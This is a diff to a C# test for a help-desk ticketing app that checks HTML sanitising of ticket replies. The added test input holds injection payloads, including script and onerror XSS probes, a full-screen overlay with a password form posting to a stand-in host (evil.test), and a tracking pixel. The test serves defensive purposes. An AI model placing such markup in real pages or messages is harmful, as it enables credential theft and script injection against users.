@@ -726,12 +726,17 @@ public abstract class TicketsApiTests(KefuApp app)
 
         var msg = await KefuApp.PostOk(app.AgentA.Http, $"{url}/messages", new
         {
-            kind = "public_reply", html = "<p>请看<b>截图</b><script>alert(1)</script><img src=x onerror=alert(2)></p>",
+            kind = "public_reply", html = "<p>请看<b>截图</b><script>alert(1)</script><img src=x onerror=alert(2)></p>" +
+                "<div style=\"position:fixed;z-index:9999;top:0;left:0\" tabindex=\"1\" contenteditable=\"true\">" +
+                "<form action=\"https://evil.test/login\" method=\"post\"><input type=\"password\"><textarea></textarea>" +
+                "<select><option>a</option></select><button>登录</button></form></div><img src=\"https://track.test/p.gif\">",
             attachmentIds = new[] { upload["id"]!.GetValue<long>() },
         });
         var html = msg["bodyHtml"]!.GetValue<string>();
         Assert.DoesNotContain("script", html);
         Assert.DoesNotContain("onerror", html);
+        foreach (var gone in new[] { "<form", "<input", "<textarea", "<select", "<button", "evil.test", "position", "z-index", "top", "left", "tabindex", "contenteditable", "track.test" })
+            Assert.DoesNotContain(gone, html);
         Assert.Contains("<b>截图</b>", html);
         Assert.Equal("请看截图", msg["body"]!.GetValue<string>());
         var attachment = Assert.Single(msg["attachments"]!.AsArray())!;
